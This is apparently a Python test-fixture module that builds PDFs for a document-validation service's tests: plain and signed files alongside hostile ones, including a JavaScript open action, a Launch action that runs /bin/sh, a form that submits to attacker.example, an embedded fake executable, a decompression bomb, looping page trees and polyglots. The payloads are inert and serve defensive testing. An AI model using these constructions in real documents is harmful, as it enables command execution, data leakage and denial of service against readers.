"""PDFs made in the tests (no binary fixtures): ordinary, hostile and signed ones."""

from __future__ import annotations

import io
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pikepdf


def plain(pages: int = 3, size: tuple[float, float] = (595, 842)) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=size)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _with(edit: object) -> bytes:
    pdf = pikepdf.open(io.BytesIO(plain(2)))
    edit(pdf)  # type: ignore[operator]
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def javascript() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        js = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
        pdf.Root.OpenAction = js
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", js]))
        )

    return _with(edit)


def launch() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="/bin/sh")
        annot = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=pikepdf.Array([0, 0, 100, 100]),
                A=action,
            )
        )
        pdf.pages[0].obj.Annots = pikepdf.Array([annot])
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=action)

    return _with(edit)


def embedded_exe() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, b"\x7fELF" + b"\0" * 100, filename="virus.exe")
        pdf.attachments["virus.exe"] = spec

    return _with(edit)


def submit_form() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        field = pdf.make_indirect(
            pikepdf.Dictionary(
                FT=pikepdf.Name.Btn,
                T="send",
                Rect=pikepdf.Array([0, 0, 50, 50]),
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://attacker.example/"),
            )
        )
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
        pdf.pages[0].obj.Annots = pikepdf.Array([field])

    return _with(edit)


def encrypted(user_password: str = "mat-khau") -> bytes:
    pdf = pikepdf.open(io.BytesIO(plain(1)))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user=user_password, owner="chu-so-huu"))
    return out.getvalue()


def bomb(decompressed: int = 64 * 1024 * 1024) -> bytes:
    """A small file whose one stream inflates to ``decompressed`` bytes."""
    pdf = pikepdf.open(io.BytesIO(plain(1)))
    comp = zlib.compressobj(9)
    data = comp.compress(b"\0" * decompressed) + comp.flush()
    stream = pikepdf.Stream(pdf, data)
    stream.Filter = pikepdf.Name.FlateDecode
    pdf.pages[0].obj.Contents = pdf.make_indirect(stream)
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def huge_page() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.MediaBox = pikepdf.Array([0, 0, 200_000, 842])

    return _with(edit)


def many_pages(n: int = 10_000) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    for _ in range(n - 1):
        pdf.pages.append(pdf.pages[0])
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def page_cycle() -> bytes:
    """A page tree whose Kids point back at the root of the tree."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def xref_loop() -> bytes:
    """Two cross-reference sections whose /Prev point at each other."""
    body = plain(1)
    start = body.rfind(b"startxref")
    a = len(body)
    section = (b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Prev %d>>\n" % (a + 60)).ljust(
        60, b" "
    )
    return body[:start] + section + b"startxref\n%d\n%%%%EOF\n" % a


def truncated() -> bytes:
    return plain(5)[:200]


def polyglot_html() -> bytes:
    return b"<html><script>alert(1)</script></html>\n" + plain(1)


def pdf_zip() -> bytes:
    """A PDF with a ZIP archive appended after its end."""
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.sh", "#!/bin/sh\necho owned\n" * 20)
    return plain(1) + buf.getvalue()


NOT_PDFS = {
    "html": b"<!doctype html><html><body>Xin chao</body></html>",
    "zip": b"PK\x03\x04" + b"\0" * 200,
    "png": b"\x89PNG\r\n\x1a\n" + b"\0" * 200,
    "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
}


def self_signed(tmp: Path) -> tuple[Path, Path]:
    """A key and a self-signed certificate (PEM files) for signing in a test."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name(
        [
            x509.NameAttribute(NameOID.COMMON_NAME, "UBND Huyện Hoằng Hóa"),
            x509.NameAttribute(NameOID.COUNTRY_NAME, "VN"),
        ]
    )
    now = datetime.now(UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=30))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .add_extension(
            x509.KeyUsage(True, True, False, False, False, True, True, False, False), critical=True
        )
        .sign(key, hashes.SHA256())
    )
    key_path, cert_path = tmp / "key.pem", tmp / "cert.pem"
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    return key_path, cert_path


async def signed(tmp: Path) -> tuple[bytes, Path]:
    """A PDF signed with a fresh self-signed certificate, and that certificate's file."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers

    key, cert = self_signed(tmp)
    signer = signers.SimpleSigner.load(str(key), str(cert))
    assert signer is not None
    out = io.BytesIO()
    writer = IncrementalPdfFileWriter(io.BytesIO(plain(2)))
    await signers.async_sign_pdf(
        writer, signers.PdfSignatureMetadata(field_name="ChuKy1"), signer=signer, output=out
    )
    return out.getvalue(), cert


def modified_after_signing(data: bytes) -> bytes:
    """An incremental update after the signature that adds a page (a real change)."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(data))
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    page["/Rotate"] = generic.NumberObject(90)  # a change the signature does not allow
    writer.update_container(page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


#: Files refused outright, with the code that says why (over the service and over HTTP).
HOSTILE = [
    ("empty", b"", "document_empty"),
    ("truncated", truncated(), "document_damaged"),
    ("encrypted", encrypted(), "document_encrypted"),
    ("huge_page", huge_page(), "document_page_size"),
    ("page_cycle", page_cycle(), "document_damaged"),
    ("polyglot", polyglot_html(), "not_a_pdf"),
    *[(k, v, "not_a_pdf") for k, v in NOT_PDFS.items()],
]
